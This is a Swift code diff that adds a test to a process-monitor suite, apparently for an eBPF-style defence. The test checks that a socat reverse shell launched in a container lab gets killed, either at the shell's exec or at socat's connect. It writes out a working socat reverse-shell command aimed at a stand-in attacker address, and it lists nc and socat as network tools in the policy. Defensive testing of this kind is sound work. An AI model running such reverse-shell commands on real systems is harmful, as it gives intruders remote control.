@@ -170,4 +170,39 @@ struct ProcessMonitorTests {
         ProcessMonitor.detachPinned(under: lab.pinRoot)
         #expect(try execsOfTrue(second) == 0, "no pinned link left: nothing is watched")
     }
+
+    /// socat with a pty: whichever of its connect and its shell's exec comes
+    /// second is answered in the kernel: the shell killed at exec (socat
+    /// connected first, the usual order), or socat, a network tool that
+    /// started a stdin-reading shell, killed at its connect.
+    @Test func socatsPtyShellIsKilledAtExecOrSocatAtItsConnect() throws {
+        let env = try ContainerLab(kills: [.reverseShell])
+        try env.monitor.policy.setNames(["sh": .shell, "bash": .shell, "nc": .networkTool, "socat": .networkTool])
+        let result = try env.lab.exec(
+            in: env.container,
+            ["timeout", "-s", "KILL", "5"] + ReverseShells.socat(env.attacker.ipv4, ContainerLab.listenerPort, pty: true),
+            check: false)
+        let events = try env.monitor.drain()
+        let relayKilled = events.contains {
+            if case .relayConnect(let relay) = $0 { relay.killed && relay.connection.comm == "socat" } else { false }
+        }
+        let shellKilled = events.contains {
+            if case .exec(let exec) = $0 { exec.comm == "sh" && exec.killedAtExec && exec.relayedBy?.comm == "socat" } else { false }
+        }
+        #expect(relayKilled || shellKilled, "socat: \(result.status) \(result.error)")
+        // The addresses the other way round: socat starts the shell first, then connects.
+        let reversed = try env.lab.exec(
+            in: env.container,
+            [
+                "timeout", "-s", "KILL", "5", "socat", "tcp:\(env.attacker.ipv4):\(ContainerLab.listenerPort)",
+                "exec:sh -i,pty,stderr,setsid,sigint,sane"
+            ], check: false)
+        let later = try env.monitor.drain()
+        let toolKilled = later.contains {
+            if case .relayConnect(let relay) = $0 { relay.killed && relay.connection.comm == "socat" } else { false }
+        }
+        let execKilled = later.contains { if case .exec(let exec) = $0 { exec.comm == "sh" && exec.killedAtExec } else { false } }
+        #expect(toolKilled || execKilled, "socat: \(reversed.status) \(reversed.error)")
+        print("socat tcp-first: relay killed at connect \(toolKilled), shell killed at exec \(execKilled)")
+    }
 }
